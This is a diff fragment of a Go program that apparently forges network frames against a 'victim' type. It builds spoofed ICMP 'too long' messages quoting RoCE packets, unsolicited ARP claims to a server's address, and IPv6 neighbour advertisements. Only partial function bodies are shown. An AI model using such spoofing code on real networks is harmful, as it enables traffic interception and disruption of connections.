@@ -4,12 +4,12 @@ package main
 
 import "encoding/binary"
 
-// Frames of other protocols than ours, built byte by byte. f begins with the Ethernet
-// header, whose addresses are there already.
+// The functions below build frames of other protocols. f begins with the Ethernet header, whose
+// addresses are set already.
 
-// putICMP says to the client that a packet of its was too long for a network on its way
+// putICMP tells the client that one of its packets was too long for a network on the path
 // (RFC 792, RFC 1191). It quotes a RoCE packet of the connection.
-func putICMP(a *aim, f []byte, n uint64) {
+func putICMP(a *victim, f []byte, n uint64) {
 	copy(f, a.ClientMAC[:])
 	f[12], f[13] = 0x08, 0x00
 	ip := f[14:34]
@@ -27,8 +27,8 @@ func putICMP(a *aim, f []byte, n uint64) {
 	binary.BigEndian.PutUint16(icmp[2:], checksum(0, icmp))
 }
 
-// putARP says where an address is, of which nobody has asked (RFC 826).
-func putARP(a *aim, f []byte, n uint64) {
+// putARP claims an address in an ARP packet that the server has not asked for (RFC 826).
+func putARP(a *victim, f []byte, n uint64) {
 	f[12], f[13] = 0x08, 0x06
 	p := f[14:]
 	clear(p)
@@ -40,8 +40,8 @@ func putARP(a *aim, f []byte, n uint64) {
 	copy(p[24:], server[:])
 }
 
-// putND is the same for IPv6 (RFC 4861, 4.4).
-func putND(a *aim, f []byte, n uint64) {
+// putND does the same by IPv6 neighbour advertisements (RFC 4861, 4.4).
+func putND(a *victim, f []byte, n uint64) {
 	f[12], f[13] = 0x86, 0xDD
 	ip := f[14:54]
 	clear(ip)
